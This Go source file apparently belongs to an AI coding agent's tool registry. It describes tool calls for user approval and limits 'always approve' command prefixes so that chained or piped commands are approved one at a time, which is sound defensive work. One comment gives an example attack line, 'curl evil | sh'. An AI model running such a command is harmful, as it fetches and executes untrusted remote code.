package tools

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"strings"

	"gitlab.com/wend/wend/session"
)

// Describe fills an approval request for call: Kind from the tool's effect (empty
// for reads, which need no approval), Tool, and for commands Command and Prefix,
// for writes Path, plus a one-line Detail. The engine sets ID and StepID. It reads
// the arguments leniently: a malformed call is still described, and Execute will
// refuse it afterwards.
func (r *Registry) Describe(call Call) session.ApprovalRequest {
	req := session.ApprovalRequest{Tool: call.Name}
	switch r.Effect(call) {
	case session.EffectWrite, session.EffectProtected:
		req.Kind = session.ApproveWrite
	case session.EffectCommand:
		req.Kind = session.ApproveCommand
	case session.EffectNetwork:
		req.Kind = session.ApproveNetwork
	}
	var a struct {
		Path       string          `json:"path"`
		OldString  string          `json:"old_string"`
		NewString  string          `json:"new_string"`
		ReplaceAll bool            `json:"replace_all"`
		Content    *string         `json:"content"`
		Command    string          `json:"command"`
		Args       json.RawMessage `json:"args"`
	}
	_ = json.Unmarshal(call.Args, &a)
	if a.Path != "" {
		req.Path = a.Path
		if t, err := r.resolve(a.Path); err == nil {
			req.Path = t.Rel
		}
	}
	switch call.Name {
	case ToolRunCommand:
		req.Command = a.Command
		req.Prefix = CommandPrefix(a.Command)
		req.Detail = "run " + shorten(strings.Join(strings.Fields(a.Command), " "), 100)
		if req.Kind == session.ApproveNetwork {
			r.describeNetwork(&req) // network.go
		} else if iso := r.CommandIsolation(); iso != "" { // what the user lets it reach (command.go)
			req.Detail += " (" + iso + ")"
		}
	case ToolEditFile:
		req.Detail = fmt.Sprintf("edit %s: replace %s with %s", req.Path, plural(lineCount(a.OldString), "line"), plural(lineCount(a.NewString), "line"))
		if a.ReplaceAll {
			req.Detail += " (every occurrence)"
		}
	case ToolCreateFile:
		verb := "create"
		if t, err := r.resolve(a.Path); err == nil {
			if _, err := os.Stat(t.Abs); err == nil {
				verb = "overwrite"
			}
		}
		n := 0
		if a.Content != nil {
			n = lineCount(*a.Content)
		}
		req.Detail = fmt.Sprintf("%s %s (%s)", verb, req.Path, plural(n, "line"))
	case ToolGit:
		req.Detail = r.gitDetail(call) // with why it needs approval (gittool.go)
	default:
		var compact bytes.Buffer
		if json.Compact(&compact, call.Args) != nil {
			compact.Reset()
			compact.Write(call.Args)
		}
		req.Detail = shorten(call.Name+" "+compact.String(), 120)
	}
	if req.Kind == session.ApproveWrite {
		r.describeProtected(call, &req) // protect.go
	}
	return req
}

// prefixDepth says how many words past the program name make a command's
// prefix, for programs whose first argument is a subcommand ("go test") or a
// runner ("npm run build").
var prefixDepth = map[string]int{
	"go": 1, "cargo": 1, "make": 1, "git": 1, "docker": 1, "kubectl": 1, "gradle": 1, "./gradlew": 1,
	"mvn": 1, "dotnet": 1, "rake": 1, "npx": 1, "pytest": 0, "bun": 1, "deno": 1, "mix": 1, "swift": 1,
	"npm": 1, "pnpm": 1, "yarn": 1, "bundle": 1, "poetry": 1, "uv": 1, "python": 1, "python3": 1,
	"just": 1, "task": 1, "helm": 1, "terraform": 1, "glab": 1,
}

// runnerWords take one more word: "npm run build", "bundle exec rspec", "python -m pytest".
var runnerWords = map[string]bool{"run": true, "exec": true, "-m": true, "x": true, "tool": true}

// shellMeta are characters that chain, redirect or substitute commands. A command
// containing any of them gets no prefix: approving "go test" must not approve
// "go test ./... && curl evil | sh".
const shellMeta = ";&|<>`$()\n\\{}*?[]~!#'\""

// CommandPrefix returns the words of command that "always approve this prefix"
// remembers: the program and, for tools with subcommands, the subcommand ("go
// test", "npm run lint", "make check"). It returns "" when command is not a plain
// word list (pipes, chaining, redirects, substitutions, quotes, globs, variable
// assignments): such commands are approved one at a time.
func CommandPrefix(command string) string {
	words, ok := plainWords(command)
	if !ok || len(words) == 0 {
		return ""
	}
	n := 1 + prefixDepth[words[0]]
	for i := 1; i < n && i < len(words); i++ {
		if strings.HasPrefix(words[i], "-") && !runnerWords[words[i]] {
			// "go -C dir test": an option where the subcommand belongs. "go" alone
			// would approve far too much, so this command gets no prefix.
			return ""
		}
		if runnerWords[words[i]] {
			n++
		}
	}
	if n > len(words) {
		n = len(words)
	}
	return strings.Join(words[:n], " ")
}

// PrefixAllows reports whether an "always approve" grant for prefix covers
// command: command is a plain word list (see CommandPrefix) whose first words are
// exactly prefix's.
func PrefixAllows(prefix, command string) bool {
	pw := strings.Fields(prefix)
	words, ok := plainWords(command)
	if !ok || len(pw) == 0 || len(words) < len(pw) {
		return false
	}
	for i, w := range pw {
		if words[i] != w {
			return false
		}
	}
	return true
}

func plainWords(command string) ([]string, bool) {
	if strings.ContainsAny(command, shellMeta) {
		return nil, false
	}
	words := strings.Fields(command)
	if len(words) > 0 && strings.Contains(words[0], "=") {
		return nil, false // FOO=bar cmd: the environment changes what cmd does
	}
	return words, true
}
